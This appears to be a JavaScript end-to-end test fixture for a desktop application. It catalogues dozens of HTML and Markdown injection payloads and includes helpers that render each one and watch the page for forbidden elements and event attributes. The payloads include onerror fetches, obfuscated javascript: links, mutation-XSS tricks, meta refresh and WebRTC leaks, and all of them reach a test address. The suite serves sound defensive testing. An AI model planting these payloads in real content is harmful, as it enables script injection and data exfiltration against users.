// Text that would reach the network if anybody drew it: markup, and Markdown that a careless renderer makes markup of.
//
// `text` is what comes in, with URL for the address to reach; `drawn` is what a renderer without a thought makes of it,
// where that is not the text itself. `click` marks what needs a click, `connects` what opens a connection and may ask
// for nothing over it, and `silent` what the engine here does not act on even when drawn and nothing stops it.

const html = (text, more) => ({ text, drawn: text, ...more });
const markdown = (text, drawn, more) => ({ text, drawn, ...more });
const IMAGE = '<img src="URL">';
const link = (href) => `<a class="go" href="${href}">x</a>`;
const CLICK = { click: ".go" };

export const markup = {
	"img": html('<img src="URL">'),
	"img-unquoted": html("<IMG SRC=URL>"),
	"img-srcset": html('<img srcset="URL 1x">'),
	"img-error": html(`<img src="x:" onerror="fetch('URL')">`),
	"picture": html('<picture><source srcset="URL"><img></picture>'),
	"input-image": html('<input type="image" src="URL">'),
	"input-focus": html(`<input autofocus onfocus="fetch('URL')">`, { silent: true }),
	"table-background": html('<table background="URL"><tr><td>x</td></tr></table>'),
	"video": html('<video src="URL" preload="auto"></video>'),
	"video-poster": html('<video poster="URL"></video>'),
	"audio-source": html('<audio preload="auto"><source src="URL"></audio>'),
	"object": html('<object data="URL" type="text/html"></object>'),
	"embed": html('<embed src="URL" type="text/html">'),
	"iframe": html('<iframe src="URL"></iframe>'),
	"iframe-srcdoc": html(`<iframe srcdoc="<img src='URL'>"></iframe>`),
	"iframe-data": html('<iframe src="data:text/html,<img src=URL>"></iframe>'),
	"iframe-javascript": html(`<iframe src="javascript:fetch('URL')"></iframe>`),
	"script": html('<script src="URL"></script>'),
	"script-inline": html(`<script>fetch("URL")</script>`),
	"script-module": html(`<script type="module">import "URL"</script>`),
	"script-web-rtc": html(`<script>const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:" + new URL("URL").host + "?transport=tcp", username: "u", credential: "c" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))</script>`, { silent: true }),
	"details-toggle": html(`<details open ontoggle="fetch('URL')">x</details>`),
	"animation-start": html(`<style>@keyframes k {}</style><p style="animation: k 1s" onanimationstart="fetch('URL')">x</p>`),
	"style-import": html('<style>@import url("URL");</style>'),
	"style-background": html("<style>body { background-image: url(URL) }</style>"),
	"style-font": html("<style>@font-face { font-family: m; src: url(URL) } .m { font-family: m }</style><p class=m>x</p>"),
	"style-attribute": html('<p style="background: url(URL)">x</p>'),
	"style-list": html('<ul><li style="list-style: url(URL)">x</li></ul>'),
	"style-content": html('<p style="content: url(URL)">x</p>'),
	"link-stylesheet": html('<link rel="stylesheet" href="URL">'),
	"link-preload": html('<link rel="preload" as="image" href="URL">'),
	"link-modulepreload": html('<link rel="modulepreload" href="URL">'),
	"link-preconnect": html('<link rel="preconnect" href="URL">', { connects: true }),
	"link-prefetch": html('<link rel="prefetch" href="URL">', { silent: true }),
	"link-icon": html('<link rel="icon" href="URL">', { silent: true }),
	"link-manifest": html('<link rel="manifest" href="URL">', { silent: true }),
	"base": html('<base href="URL/"><img src="x"><base href="/">', { silent: true }),
	"svg-image": html('<svg width="9" height="9"><image href="URL" width="9" height="9"/></svg>'),
	"svg-xlink": html('<svg width="9" height="9"><image xlink:href="URL" width="9" height="9"/></svg>'),
	"svg-use": html('<svg><use href="URL#x"/></svg>', { silent: true }),
	"svg-feimage": html('<svg width="9" height="9"><filter id="m"><feImage href="URL"/></filter><rect width="9" height="9" filter="url(#m)"/></svg>'),
	"svg-load": html(`<svg onload="fetch('URL')"></svg>`, { silent: true }),
	"svg-script": html(`<svg><script>fetch("URL")</script></svg>`, { silent: true }),
	"svg-style": html("<svg><style>body { border-image: url(URL) 3; border-style: solid }</style></svg>"),
	"svg-foreign": html('<svg width="9" height="9"><foreignObject width="9" height="9"><img src="URL"></foreignObject></svg>'),
	"svg-begin": html(`<svg><animate onbegin="fetch('URL')" attributeName="x" dur="1s"/></svg>`),
	"svg-link": html('<svg width="9" height="9"><a class="go" href="URL"><text y="9">x</text></a></svg>', { ...CLICK, silent: true }),
	"math-link": html('<math><mtext class="go" href="URL">x</mtext></math>', { ...CLICK, silent: true }),
	"out-of-textarea": markdown('</textarea><img src="URL">', IMAGE),
	"out-of-attribute": markdown('"><img src="URL">', IMAGE),
	"out-of-comment": html('<!--><img src="URL">-->'),
	"mutated-style": html('<svg></p><style><a id="</style><img src=URL>">'),
	"mutated-noscript": html('<noscript><p title="</noscript><img src=URL>">x</p></noscript>', { silent: true }),
	"encoded-once": markdown("&lt;img src=URL&gt;", "<img src=URL>"),
	"encoded-twice": markdown("&amp;lt;img src=URL&amp;gt;", "<img src=URL>"),
	"form-button": html('<form action="URL" method="post"><button class="go">x</button></form>', CLICK),
	"form-action": html('<form><button class="go" formaction="URL">x</button></form>', CLICK),
	"link-ping": html('<a class="go" href="#" ping="URL">x</a>', CLICK),
	"meta-refresh": html('<meta http-equiv="refresh" content="0;url=URL">'),
	"svg-location": html(`<svg onload="location='URL'"></svg>`, { silent: true }),
	"markdown-image": markdown("![x](URL)", IMAGE),
	"markdown-image-title": markdown('![x](URL "the plan")', IMAGE),
	"markdown-image-angle": markdown("![x](<URL>)", IMAGE),
	"markdown-image-reference": markdown("![x][m1]\n\n[m1]: URL", IMAGE),
	"markdown-image-collapsed": markdown("![m2][]\n\n[m2]: <URL>", IMAGE),
	"markdown-image-shortcut": markdown("![m3]\n\n[m3]: URL 'the plan'", IMAGE),
	"markdown-image-linked": markdown("[![x](URL)](URL)", `<a href="URL">${IMAGE}</a>`),
	"markdown-image-heading": markdown("# ![x](URL)", `<h1>${IMAGE}</h1>`),
	"markdown-image-list": markdown("- ![x](URL)", `<ul><li>${IMAGE}</li></ul>`),
	"markdown-image-quote": markdown("> ![x](URL)", `<blockquote>${IMAGE}</blockquote>`),
	"markdown-image-table": markdown("| a |\n|---|\n| ![x](URL) |", `<table><tr><td>${IMAGE}</td></tr></table>`),
	"markdown-image-footnote": markdown("Note[^m4].\n\n[^m4]: ![x](URL)", IMAGE),
	"markdown-image-bold": markdown("**![x](URL)**", `<b>${IMAGE}</b>`),
	"markdown-image-embed": markdown("![[URL]]", IMAGE),
	"markdown-link": markdown("[x](URL)", link("URL"), CLICK),
	"markdown-link-reference": markdown("[x][m5]\n\n[m5]: URL", link("URL"), CLICK),
	// Of a page of ours it leads to tauri://, where nobody is.
	"markdown-link-relative": markdown("[x](URL)".replace("URL", "RELATIVE"), link("RELATIVE"), { ...CLICK, silent: true }),
	"markdown-autolink": markdown("<URL>", link("URL"), CLICK),
	"markdown-bare": markdown("see URL there", link("URL"), CLICK),
	"markdown-javascript": markdown("[x](javascript:fetch('URL'))", link("javascript:fetch('URL')"), CLICK),
	"markdown-javascript-mixed": markdown("[x](JaVa&#x73;cript:fetch('URL'))", link("JaVa&#x73;cript:fetch('URL')"), CLICK),
	"markdown-javascript-tab": markdown("[x](java&Tab;script:fetch('URL'))", link("java&Tab;script:fetch('URL')"), CLICK),
	"markdown-javascript-autolink": markdown("<javascript:fetch('URL')>", link("javascript:fetch('URL')"), CLICK),
	"markdown-data": markdown("[x](data:text/html,<img/src=URL>)", link("data:text/html,<img/src=URL>"), { ...CLICK, silent: true }),
	"markdown-code": markdown("```html\n<img src=\"URL\">\n```", IMAGE),
};

/** One row's text or drawing, with the address that tells which row it was. */
export function aimed(name, what, address) {
	const url = `${address}/${name}`;
	return markup[name][what].replaceAll("URL", url).replaceAll("RELATIVE", url.slice(url.indexOf("//")));
}

/** The rows' texts as one, each a paragraph. */
export const textOf = (names, address) => names.map((name) => aimed(name, "text", address)).join("\n\n");

/** Returns the rows to be drawn, each a paragraph. */
export const drawingOf = (names, address) => names.map((name) => aimed(name, "drawn", address)).join("\n\n");

/** Draws one row in the page as a careless renderer would, scripts and all. */
export async function draw(window, name, address) {
	const { click } = markup[name];
	const script = `
		document.getElementById("drawn")?.remove();
		const at = Object.assign(document.createElement("div"), { id: "drawn" });
		at.style.cssText = "position: fixed; inset: 0; z-index: 9999; background-color: white";
		(document.body ?? document.documentElement).append(at);
		at.append(document.createRange().createContextualFragment(arguments[0]));`;
	await window.post("/execute/sync", { script, args: [aimed(name, "drawn", address)] });
	if (click) await window.find(`#drawn ${click}`).then((element) => element.click());
}

/**
 * Watches a page for what text must never become: an element that the application never makes, or an attribute that is
 * followed. What is seen for a moment only is told too. Answers how to ask what was seen.
 */
export async function watch(window, address) {
	await window.run(
		`(address) => {
			const never = "img, picture, source, iframe, frame, object, embed, video, audio, track, base, form[action], math, marquee, foreignObject, feImage, image, noscript, a[href], body link, body meta, body script, body style";
			const shown = new Set(["title", "value", "placeholder", "alt"]);
			const isFollowed = ({ name, value }) => (value.includes(address) && !shown.has(name) && !/^(aria|data)-/.test(name)) || /^on/.test(name);
			const isForeign = (one) => one.matches(never) || [...one.attributes].some(isFollowed);
			window.foreign = [];
			const look = (one) => {
				if (one.nodeType !== Node.ELEMENT_NODE) return;
				for (const each of [one, ...one.querySelectorAll("*")]) if (isForeign(each)) window.foreign.push(each.outerHTML.slice(0, 120));
			};
			look(document.documentElement);
			const watcher = new MutationObserver((changes) => {
				for (const { target, addedNodes, type } of changes) for (const one of type === "attributes" ? [target] : addedNodes) look(one);
			});
			watcher.observe(document.documentElement, { subtree: true, childList: true, attributes: true });
		}`,
		address.slice(address.indexOf("//")),
	);
	return () => window.run("() => window.foreign");
}

/** Brings everything into view that can be scrolled to in these parts: what is out of sight is not drawn. */
export function scrollThrough(window, parts) {
	const script = `async (parts) => {
		const drawn = () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
		const scrolls = (one) => one.clientHeight > 40 && one.scrollHeight > one.clientHeight + 8 && /auto|scroll/.test(getComputedStyle(one).overflowY);
		for (const one of [...document.querySelectorAll(parts)].filter(scrolls)) {
			for (let top = 0; top <= one.scrollHeight; top += one.clientHeight) {
				one.scrollTop = top;
				await drawn();
			}
		}
	}`;
	return window.run(script, parts);
}
